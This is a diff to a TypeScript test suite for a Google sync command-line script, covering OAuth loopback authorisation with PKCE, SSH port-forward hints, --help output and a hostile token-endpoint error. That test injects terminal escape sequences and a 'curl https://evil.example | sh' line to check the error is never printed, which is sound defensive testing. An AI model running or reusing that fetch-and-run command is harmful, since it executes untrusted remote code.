@@ -1,12 +1,13 @@
 /**
  * `npm run sync -- google` as an owner and a scheduler run it (the script in a child process, settings in
  * the environment, the test CA through NODE_EXTRA_CA_CERTS): the one-time loopback authorisation with
- * PKCE, checked by the stand-in, that stores the refresh token in DATA_DIR (mode 0600) and lists the
- * locations; a sync killed half-way that leaves the content as it was; the exit codes and the one line
+ * PKCE, checked by the stand-in, that stores the refresh token in DATA_DIR (mode 0600), lists the
+ * locations and says which port to forward over SSH; a token endpoint's hostile error never printed;
+ * `--help`; a sync killed half-way that leaves the content as it was; the exit codes and the one line
  * each run ends with.
  */
 import { spawn } from 'node:child_process';
-import { mkdtemp, readFile, stat } from 'node:fs/promises';
+import { readFile, stat } from 'node:fs/promises';
 import { request } from 'node:https';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -35,39 +36,50 @@ async function envFor(contentDir: string, extra: Record<string, string> = {}): P
   return { ...rest, ...google.env(), CONTENT_DIR: contentDir, DATA_DIR: path.join(path.dirname(contentDir), 'data'), NODE_EXTRA_CA_CERTS: ca.certFile, ...extra };
 }
 
+/**
+ * `--authorize` as the owner runs it: the command prints the consent address, the browser follows it and
+ * Google's redirect lands on the command's loopback port.
+ */
+async function authorize(env: NodeJS.ProcessEnv): Promise<{ consent: URL; landing: Response; done: Promise<{ code: number | null; stdout: string; stderr: string }> }> {
+  const child = spawn(process.execPath, ['scripts/sync/main.ts', 'google', '--authorize'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
+  let stdout = '';
+  let stderr = '';
+  child.stderr.on('data', (c) => (stderr += c));
+  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => child.once('close', (code) => resolve({ code, stdout, stderr })));
+  const consentUrl = await new Promise<string>((resolve, reject) => {
+    child.stdout.on('data', (c) => {
+      stdout += c;
+      const url = /^(https:\/\/\S+\/auth\?\S+)$/m.exec(stdout)?.[1];
+      if (url) resolve(url);
+    });
+    child.once('exit', () => reject(new Error(`exited before printing the consent URL: ${stderr}`)));
+  });
+  // The browser: Google's consent page redirects to the loopback address the sync listens on.
+  const location = await new Promise<string>((resolve, reject) => {
+    request(consentUrl, { ca: ca.certPem }, (res) => {
+      res.resume();
+      resolve(res.headers.location ?? `no redirect: ${res.statusCode}`);
+    })
+      .on('error', reject)
+      .end();
+  });
+  expect(location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/?\?code=/);
+  return { consent: new URL(consentUrl), landing: await fetch(location), done };
+}
+
 describe('the sync as a process', () => {
   it('authorises once through a loopback redirect with PKCE, stores the token in DATA_DIR (0600) and lists the locations', async () => {
     const content = await copySmallContent();
     const { GOOGLE_REFRESH_TOKEN: _unset, ...env } = await envFor(content);
-    const child = spawn(process.execPath, ['scripts/sync/main.ts', 'google', '--authorize'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
-    let stdout = '';
-    let stderr = '';
-    child.stderr.on('data', (c) => (stderr += c));
-    const consentUrl = await new Promise<string>((resolve, reject) => {
-      child.stdout.on('data', (c) => {
-        stdout += c;
-        const url = /^(https:\/\/\S+\/auth\?\S+)$/m.exec(stdout)?.[1];
-        if (url) resolve(url);
-      });
-      child.once('exit', () => reject(new Error(`exited before printing the consent URL: ${stderr}`)));
-    });
-    const consent = new URL(consentUrl);
+    const { consent, landing, done } = await authorize(env);
     expect(consent.searchParams.get('code_challenge_method')).toBe('S256');
     expect(consent.searchParams.get('scope')).toBe('https://www.googleapis.com/auth/business.manage');
-    // The browser: Google's consent page redirects to the loopback address the sync listens on.
-    const location = await new Promise<string>((resolve, reject) => {
-      request(consentUrl, { ca: ca.certPem }, (res) => {
-        res.resume();
-        resolve(res.headers.location ?? `no redirect: ${res.statusCode}`);
-      })
-        .on('error', reject)
-        .end();
-    });
-    expect(location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/?\?code=/);
-    const landing = await fetch(location);
     expect(landing.status).toBe(200);
-    const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
+    const { code, stdout, stderr } = await done;
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+    // Over SSH, the port the browser comes back to is the one to forward.
+    const port = new URL(consent.searchParams.get('redirect_uri')!).port;
+    expect(stdout).toContain(`On a server reached over SSH, first forward port ${port} from your own computer: ssh -N -L ${port}:127.0.0.1:${port} <you>@<server>`);
     expect(stdout).toContain('GOOGLE_LOCATION=accounts/1/locations/2  (Brightline Heating & Air');
 
     const tokenFile = path.join(path.dirname(content), 'data', 'google-refresh-token');
@@ -80,6 +92,25 @@ describe('the sync as a process', () => {
     const run = await runScript(process.execPath, ['scripts/sync/main.ts', 'google'], { env });
     expect(run.code).toBe(0);
     expect(run.stdout.trim().split('\n').at(-1)).toBe('sync google: 120 added, 0 updated, 0 withdrawn, 0 skipped; 3 pages read');
+  });
+
+  it('prints no raw text of a token endpoint that refuses the code with a hostile error, and exits 1', async () => {
+    const content = await copySmallContent();
+    const { GOOGLE_REFRESH_TOKEN: _unset, ...env } = await envFor(content);
+    const hostile = '\u001b]0;owned\u0007\u001b[2J\r\nrun: curl https://evil.example | sh';
+    const isCodeExchange = (req: RecordedRequest) => req.path === '/token' && new URLSearchParams(req.body.toString()).get('grant_type') === 'authorization_code';
+    google.failNext(isCodeExchange, (res) => void res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error: hostile, error_description: hostile })));
+    const { done } = await authorize(env);
+    const { code, stderr } = await done;
+    expect(code).toBe(1);
+    expect(stderr).toBe("authorisation failed: Google's token endpoint refused the authorisation code (400) without a documented OAuth error code\n");
+  });
+
+  it.each([[['google', '--help']], [['--help']], [['google', '--full', '--bogus', '-h']]])('prints the usage and exits 0 for %j', async (args) => {
+    const run = await runScript(process.execPath, ['scripts/sync/main.ts', ...args], { env: await envFor(await copySmallContent()) });
+    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: '' });
+    expect(run.stdout).toMatch(/^usage: npm run sync -- <google> \[options\]\n/);
+    expect(run.stdout).toContain('--authorize');
   });
 
   it('leaves the content as it was when killed half-way, and the next run completes', async () => {
